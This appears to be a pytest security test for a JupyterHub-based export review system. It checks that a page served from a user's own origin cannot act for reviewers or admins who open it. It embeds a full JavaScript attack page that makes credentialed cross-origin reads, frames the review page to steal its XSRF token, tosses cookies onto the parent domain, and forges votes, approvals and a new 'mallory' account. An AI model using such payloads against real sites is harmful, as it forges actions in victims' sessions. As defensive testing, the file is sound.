"""Origins of their own: a page a user's server serves cannot act for the people who open it.

A taken-over server can serve any page on its own origin. Here the test serves one there itself: the
proxy routes ``/user/alice/alpha/evil/`` on alice's origin to a page of the test's (the route a
server of hers would answer). The page tries, with the session of whoever opens it:

* to read the hub's API and pages, and the review service's pages and API (fetch with credentials);
* to frame the review page, read its ``_xsrf`` token and submit the vote form in the frame (the
  attack that worked when servers, hub and service shared one origin);
* to toss an ``_xsrf`` cookie onto the parent domain (all these hosts are one *site*, so the
  browser sends Lax cookies along) and then post a vote and a review decision with that token;
* to change the workspace's review policy and create a user through the APIs.

A reviewer (carol) and an admin open the page in chromium while logged in to the hub and the review
service; the page reports every result back to the test. Nothing is read, no vote is cast, no
decision taken, the policy and the accounts are unchanged.
"""

from __future__ import annotations

import json
import sqlite3
import uuid
from urllib.parse import urlparse

import pytest
import requests
from conftest import PASSWORD, seed
from enclave_testing import CHROMIUM, CHROMIUM_ARGS, EvilServer, log_in
from playwright.async_api import async_playwright

pytestmark = pytest.mark.browser

TIMEOUT = 90_000
EVIL = "/user/alice/alpha/evil/"

ATTACK = """<!doctype html><meta charset="utf-8"><title>a chart</title>
<script>
const HUB = %(hub)s, SERVICE = %(service)s, PROVISIONING = %(provisioning)s, RID = %(rid)s, FID = %(fid)s,
      TOSSED = %(tossed)s;
const report = (what, value) => fetch("report", {method: "POST", body: JSON.stringify({what, value: String(value)})});
async function read(what, url, init) {
  try {
    const r = await fetch(url, {credentials: "include", ...(init || {})});
    await report(what, r.status + " " + (await r.text()));
  } catch (e) { await report(what, "refused: " + e); }
}
function framed(src) {
  return new Promise(done => {
    const f = document.createElement("iframe");
    f.src = src;
    f.onload = () => {
      try {
        const doc = f.contentDocument;
        const xsrf = doc.querySelector("input[name=_xsrf]").value;
        const form = doc.querySelector("form.vote");
        form.querySelector("textarea").value = "fine";
        form.submit();
        done("read and submitted: " + xsrf);
      } catch (e) { done("refused: " + e); }
    };
    setTimeout(() => done("no load"), 15000);
    document.body.appendChild(f);
  });
}
function post(target, fields) {
  return new Promise(done => {
    const name = "sink" + Math.random();
    const sink = document.createElement("iframe");
    sink.name = name;
    sink.onload = () => done();
    document.body.appendChild(sink);
    const form = document.createElement("form");
    form.method = "POST"; form.action = target; form.target = name;
    for (const [k, v] of Object.entries(fields)) {
      const input = document.createElement("input");
      input.name = k; input.value = v; form.appendChild(input);
    }
    document.body.appendChild(form);
    form.submit();
    setTimeout(done, 5000);
  });
}
(async () => {
  await report("started", location.origin);
  await read("hub api user", HUB + "/hub/api/user");
  await read("hub api users", HUB + "/hub/api/users");
  await read("hub home", HUB + "/hub/home");
  await read("service page", SERVICE + "/requests/" + RID);
  await read("service api", SERVICE + "/api/requests/" + RID);
  await report("frame", await framed(SERVICE + "/requests/" + RID));
  // Cookie tossing: an _xsrf cookie for the parent domain, more specific in path than the real ones.
  const tossed = TOSSED;
  for (const path of ["/", "/services/exports/", "/services/exports/requests/", "/hub/"]) {
    document.cookie = `_xsrf=${tossed}; domain=${location.hostname.split(".").slice(1).join(".")}; path=${path}`;
  }
  await post(SERVICE + "/requests/" + RID + "/vote", {_xsrf: tossed, file_id: FID, decision: "approve", reason: "ok"});
  await post(SERVICE + "/requests/" + RID + "/transition", {_xsrf: tossed, to: "approved", reason: "ok"});
  await read("provisioning api", PROVISIONING + "/api/workspaces/alpha/freeze", {method: "POST", headers: {
      "X-XSRFToken": tossed, "Content-Type": "application/json"}, body: JSON.stringify({reason: "taken over"})});
  await read("vote api", SERVICE + "/api/requests/" + RID + "/votes", {method: "POST", headers: {"X-XSRFToken": tossed,
      "Content-Type": "application/json"}, body: JSON.stringify({file_id: FID, decision: "approve", reason: "ok"})});
  await post(HUB + "/hub/api/users/mallory", {_xsrf: tossed});
  await read("hub api create user", HUB + "/hub/api/users/mallory", {method: "POST", headers: {"X-XSRFToken": tossed}});
  await report("done", "");
})();
</script><body></body>"""


@pytest.fixture(scope="module")
def hub(hub_factory):
    hub = hub_factory("origins", ENCLAVE_SANDBOX__IDLE_TIMEOUT="0")
    seed(hub)
    r = hub.enclave("user", "add", "dave", "--role", "reviewer", "--password-stdin", input=PASSWORD + "\n")
    assert r.returncode == 0, r.stderr
    assert hub.enclave("workspace", "add-member", "alpha", "dave", "--role", "reviewer").returncode == 0
    hub.start()
    yield hub
    hub.stop_all_sandboxes()


@pytest.fixture(scope="module")
def export_request(hub):
    """An export request of alice's, waiting for its reviewers; and where her server lives."""
    alice = hub.login("alice", PASSWORD)
    r = alice.start("alpha")
    assert r.status_code == 200
    kernel = alice.kernel("alpha")
    out, err = kernel.run("import pathlib\n(pathlib.Path.home() / 'counts.csv').write_text("
                          "'district,count\\nHeping,35\\nNanshan,40\\n')\nprint('ok')")
    assert err is None, err
    kernel.close()
    submitted = alice.server_request("alpha", "POST", "enclave/api/exports",
                                     json={"paths": ["counts.csv"], "justification": "District counts."})
    assert submitted.status_code == 201, submitted.text
    request_id = submitted.json()["id"]
    db = sqlite3.connect(hub.home / "exports" / "exports.sqlite")
    (file_id,) = db.execute("select id from request_files where request_id = ?", (request_id,)).fetchone()
    db.close()
    return {"id": request_id, "file": file_id, "server_origin": origin_of(r.url)}


def origin_of(url: str) -> str:
    u = urlparse(url)
    return f"{u.scheme}://{u.netloc}"


def serve_on_alice_s_origin(hub, server_origin: str, target: str) -> str:
    """Route EVIL on alice's origin to ``target``, as her server would answer it; return its URL."""
    token = (hub.home / "secrets" / "proxy_auth_token").read_text().strip()
    api = f"http://127.0.0.1:{hub.proxy_api_port}/api/routes"
    headers = {"Authorization": f"token {token}"}
    routes = requests.get(api, headers=headers, timeout=10).json()
    host_routing = any("host" in route for route in routes.values())  # the proxy routes by host name
    spec = (urlparse(server_origin).hostname + EVIL) if host_routing else EVIL
    r = requests.post(f"{api}/{spec.strip('/')}", headers=headers, json={"target": target}, timeout=10)
    assert r.status_code == 201, r.text
    return server_origin + EVIL


def votes_and_state(hub, request_id: str) -> tuple[int, str, list]:
    db = sqlite3.connect(hub.home / "exports" / "exports.sqlite")
    try:
        votes = db.execute("select count(*) from votes v join request_files f on v.file_id = f.id"
                           " where f.request_id = ?", (request_id,)).fetchone()[0]
        state = db.execute("select state from export_requests where id = ?", (request_id,)).fetchone()[0]
    finally:
        db.close()
    db = sqlite3.connect(hub.home / "enclave.sqlite")
    try:
        policies = db.execute("select name, state, export_policy, export_policy_version from workspaces").fetchall()
    finally:
        db.close()
    return votes, state, policies


async def logged_in(browser, hub, username: str):
    """A browser context logged in to the hub and to the review service, as a reviewer's would be."""
    context = await browser.new_context()
    page = await context.new_page()
    page.set_default_timeout(TIMEOUT)
    await log_in(page, hub, username, PASSWORD)
    await page.goto(hub.service_url("exports") + "/")
    await page.wait_for_url("**/services/exports/**")
    return context, page


@pytest.mark.parametrize("victim", ["carol", "root-admin"])
async def test_a_page_on_a_user_s_origin_cannot_act_for_whoever_opens_it(hub, export_request, victim):
    service = hub.service_url("exports")
    tossed = "tossed-" + uuid.uuid4().hex
    page_html = ATTACK % {"hub": json.dumps(hub.url), "service": json.dumps(service), "tossed": json.dumps(tossed),
                          "provisioning": json.dumps(hub.service_url("provisioning")),
                          "rid": json.dumps(export_request["id"]), "fid": json.dumps(export_request["file"])}
    evil = EvilServer(page_html)
    url = serve_on_alice_s_origin(hub, export_request["server_origin"], evil.url + "/" + uuid.uuid4().hex)
    before = votes_and_state(hub, export_request["id"])
    async with async_playwright() as p:
        browser = await p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        context, page = await logged_in(browser, hub, victim)
        # The victim can do all of this themselves: the attack fails for want of their session.
        own = await page.goto(f"{service}/requests/{export_request['id']}")
        assert own.status == 200
        # Chromium refuses a page's cookie for the bare "localhost"; under a real domain the browser
        # takes it. So the tossed cookie is put in place for the page, on the parent domain.
        parent = urlparse(hub.url).hostname
        await context.add_cookies([{"name": "_xsrf", "value": tossed, "domain": parent, "path": path}
                                   for path in ("/", "/services/exports/", "/services/exports/requests/", "/hub/")])
        await page.goto(url)
        assert evil.done.wait(60), evil.reports
        await browser.close()
    evil.close()

    assert evil.report("started") == export_request["server_origin"]
    # Nothing read: each cross-origin read is refused by the browser (no CORS) before any content.
    for what in ("hub api user", "hub api users", "hub home", "service page", "service api"):
        assert evil.report(what).startswith("refused"), (what, evil.report(what)[:300])
    assert evil.report("frame").startswith(("refused", "no load")), evil.report("frame")[:300]
    for what in ("provisioning api", "vote api", "hub api create user"):
        assert evil.report(what).startswith("refused"), (what, evil.report(what)[:300])
    # The posts did reach the service, with the victim's cookies and the tossed token, and were refused.
    log = (hub.home / "hub.log").read_text()
    assert f"403 POST {urlparse(service).path}/requests/{export_request['id']}/vote" in log
    # No vote, no decision, no frozen workspace or policy change, no new account.
    assert votes_and_state(hub, export_request["id"]) == before
    assert "mallory" not in hub_user_names(hub)


def hub_user_names(hub) -> set[str]:
    db = sqlite3.connect(hub.home / "hub" / "jupyterhub.sqlite")
    try:
        return {name for (name,) in db.execute("select name from users")}
    finally:
        db.close()


# -- production: a domain of its own, TLS at the proxy ---------------------------------------------


def wildcard_certificate(folder, domain: str) -> tuple:
    """A self-signed certificate for ``domain`` and ``*.domain``, as production would have one."""
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, domain)])
    now = datetime.datetime.now(datetime.UTC)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(minutes=5))
            .not_valid_after(now + datetime.timedelta(days=1))
            .add_extension(x509.SubjectAlternativeName([x509.DNSName(domain), x509.DNSName("*." + domain)]), False)
            .add_extension(x509.BasicConstraints(ca=True, path_length=None), True)
            .sign(key, hashes.SHA256()))
    cert_path, key_path = folder / "cert.pem", folder / "key.pem"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                           serialization.NoEncryption()))
    key_path.chmod(0o600)
    return cert_path, key_path


def test_a_production_domain_over_tls(hub_factory, tmp_path):
    """hub.public_url on a domain of its own, with a wildcard certificate at the proxy: the hub, the
    user's server and the review service each on their own https origin, every cookie Secure and
    host-only, kernels over wss."""
    hub = hub_factory("tls", ENCLAVE_SANDBOX__IDLE_TIMEOUT="0")
    hub.domain = "enclave.localhost"
    hub.tls = wildcard_certificate(tmp_path, hub.domain)
    seed(hub)
    hub.start()
    try:
        alice = hub.login("alice", PASSWORD)
        r = alice.start("alpha")
        assert r.status_code == 200 and r.url.startswith(f"https://alice.enclave.localhost:{hub.port}/user/alice/alpha/")
        assert alice.kernel("alpha").run("print(6 * 7)") == ("42\n", None)
        service = alice.http.get(hub.service_url("exports") + "/")
        assert service.status_code == 200 and service.url.startswith(f"https://exports--service.enclave.localhost:{hub.port}/")
        cookies = {(c.name, c.domain, c.secure) for c in alice.http.cookies if c.name.startswith("__Host-")}
        assert {name for name, _, _ in cookies} >= {"__Host-jupyterhub-hub-login", "__Host-jupyterhub-user-alice-alpha"}
        assert all(secure and not domain.startswith(".") for _, domain, secure in cookies), cookies
        with pytest.raises(requests.ConnectionError):  # the proxy speaks only TLS
            requests.get(f"http://{hub.domain}:{hub.port}/hub/api/", timeout=5)
        alice.stop("alpha")
    finally:
        hub.stop()
        hub.stop_all_sandboxes()
